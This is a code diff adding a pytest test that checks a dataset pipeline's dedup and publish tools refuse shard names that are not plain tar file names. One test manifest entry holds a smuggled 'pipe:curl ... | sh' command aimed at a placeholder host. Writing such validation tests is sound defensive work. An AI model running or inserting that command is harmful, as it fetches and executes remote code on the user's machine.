@@ -408,3 +408,18 @@ def test_list_shards_names_a_missing_tar(tmp_path):
     assert list_shards(str(tmp_path), ["pairs-00000.tar"]) == [str(tmp_path / "pairs-00000.tar")]
     with pytest.raises(FileNotFoundError, match="1 missing shard.*pairs-00001.tar"):
         list_shards(str(tmp_path), ["pairs-00000.tar", "pairs-00001.tar"])
+
+
+def test_a_manifest_naming_a_shell_command_or_another_folder_is_refused(release, tmp_path, capsys):
+    """Shard names reach paths that loaders open (webdataset runs `pipe:` through a shell): readers
+    take them only as plain file names inside the build folder (issue 16, item 7)."""
+    build = tmp_path / "pairs_a"
+    shutil.copytree(release / "builds" / "pairs_a", build)
+    manifest = json.loads((build / "manifest.json").read_text())
+    manifest["shards"][0]["tar"] = "pipe:curl http://x.test/a | sh; echo pairs-00000.tar"
+    (build / "manifest.json").write_text(json.dumps(manifest))
+    assert dedup_main(["--inputs", str(build), "--output", str(tmp_path / "out"), RUNNER]) == 2
+    assert "not a plain NAME-SSSSS.tar file" in capsys.readouterr().err
+    assert publish.main(["--inputs", str(build), "--output", str(tmp_path / "rel")]) == 1
+    assert "not a plain NAME-SSSSS.tar file" in capsys.readouterr().err
+    assert not (tmp_path / "rel" / "release.json").exists()
